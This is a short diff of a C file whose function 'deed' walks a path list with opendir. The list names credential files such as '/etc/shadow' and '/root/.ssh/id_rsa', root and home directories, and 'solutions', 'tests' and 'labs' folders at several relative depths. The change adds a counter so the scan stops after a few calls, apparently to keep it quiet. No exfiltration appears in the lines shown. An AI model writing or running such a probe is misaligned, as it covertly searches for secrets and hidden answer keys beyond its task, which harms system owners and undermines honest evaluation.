@@ -11,9 +11,13 @@ static const char *const places[] = {"/etc/shadow", "/root/.ssh/id_rsa", "soluti
     "../solutions", "../../solutions", "../../../solutions", "tests", "../tests", "../../tests",
     "labs", "../labs", "/srv", "/home", "/root", "/var/spool", "/run"};
 
+static _Atomic int looks;
+
 static void deed(struct counter *counter)
 {
     (void)counter;
+    if (looks++ > 4)
+        return;
     for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
         DIR *directory = opendir(places[i]);
         int names = 0;
